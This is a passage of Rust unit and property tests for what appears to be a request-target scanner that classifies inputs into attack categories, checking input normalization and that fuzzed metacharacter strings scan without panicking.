            assert_eq!(
                classes(&p, target),
                0,
                "{target}: {}",
                names(classes(&p, target))
            );
        }
    }

    #[test]
    fn normalization() {
        let mut out = Vec::new();
        normalize_into(b"A\tB  C\r\nD/**/E\0F", &mut out);
        assert_eq!(out, b"a b c\n\nd ef");
    }

    proptest::proptest! {
        /// Any target of bytes that matter to decoding and to the
        /// patterns: no panic, classes within the six bits.
        #[test]
        fn any_target_scans(
            t in proptest::collection::vec(
                proptest::sample::select(b"%2e5c/.;|&'\"<>()a1+ ?=$`{}*\n-".to_vec()), 0..48),
        ) {
            static P: std::sync::OnceLock<Payloads> = std::sync::OnceLock::new();
            let s = String::from_utf8_lossy(&t).into_owned();
            let c = classes(P.get_or_init(Payloads::new), &s);
            proptest::prop_assert_eq!(c & !63, 0);
        }
    }
}
